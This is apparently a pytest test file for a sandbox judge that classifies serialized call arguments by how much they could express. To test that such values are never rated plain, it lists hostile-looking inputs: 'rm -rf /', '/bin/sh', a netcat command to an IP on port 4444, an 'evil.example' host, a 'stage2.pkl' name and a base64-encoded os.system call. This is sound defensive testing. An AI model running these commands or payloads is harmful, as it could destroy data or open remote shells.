"""How much a file can say through a call's arguments."""

from __future__ import annotations

from pathlib import Path

import pytest

from sandbox.judge.arguments import Says, says

_ROOT = Path(__file__).resolve().parents[2]
_LISTS = (_ROOT / "sandbox/judge/words.py", _ROOT / "images/guest/readers/words.py")


def _harmless(name: str) -> bool:
    return name.startswith("good.")


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("", Says.NONE),
        ("()", Says.NONE),
        ("('train',)", Says.WORD),
        ("(-3,)", Says.WORD),
        ("(2.5e-07,)", Says.WORD),
        ("(None,)", Says.WORD),
        ("(<tensorview>, 3, (1, 2))", Says.DATA),
        ("(good.Image, <numpyarray>)", Says.DATA),
        ("(1, 2, {3: 4.0})", Says.PLAIN),
        ("({'mlp/~/linear 0': <numpyarray>},)", Says.PLAIN),
        ("({'open': 1, 'id': 2},)", Says.PLAIN),
        ("({'a': ...}, <all plain>)", Says.PLAIN),
        ("([<tensorview>, ...], <all data>)", Says.DATA),
        (r"(b'\x07\xe4\x01', <bytes>)", Says.BYTES),
        (r"(b'\xde\xad'..., 3, 'left', <bytes>)", Says.BYTES),
        ("(<all plain>, <bytes>)", Says.BYTES),
    ],
)
def test_plain_data_is_told_from_the_least_that_could_be_said(text: str, level: Says) -> None:
    assert says(text, _harmless) is level


@pytest.mark.parametrize(
    "text",
    [
        "('id',)",
        "('cmd.exe',)",
        "('os.system',)",
        "('rm -rf /',)",
        "('/bin/sh',)",
        "('../x',)",
        "('-c',)",
        "('stage2.pkl',)",
        "('evil.example',)",
        "('203.0.113.7', 4444)",
        "('http://203.0.113.7/a',)",
        "('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKSNwYWQgcGFkIHBhZA',)",
        "('a', 'touch')",
        r"(b'\x07\xe4\x01',)",
        r"(b'\x07\xe4', 'rm -rf /', <bytes>)",
        r"(b'\x07\xe4', pkg.run, <bytes>)",
        r"('<bytes>', b'\x07\xe4')",
        "({'/bin/sh': 1},)",
        "({'nc 203.0.113.7 4444': 1},)",
        "([good.Point(...), 'left'],)",
        "([good.Path...], <calls>)",
        "(<numpyarray>, <texts>)",
        "(b'id',)",
        "(bad.run,)",
        "(good.Point(...), bad.run)",
        "({'a': ...},)",
        "([1, 2, ...],)",
        "('cut in the middle'...,)",
        "(<text of 5000 bytes>,)",
        "<more than 64 different argument lists>",
        "(<persistent 'x'>,)",
        "('<all plain>', ...)",
        "(bad.name, <all plain>, ...)",
    ],
)
def test_what_could_be_run_opened_imported_or_decoded_is_never_plain(text: str) -> None:
    assert says(text, _harmless) is Says.ANY


def test_the_guest_judges_words_by_the_same_list() -> None:
    """Of what it doesn't show it says whether all of it is plain."""
    host, guest = (path.read_text().partition("from __future__")[2] for path in _LISTS)
    assert host == guest
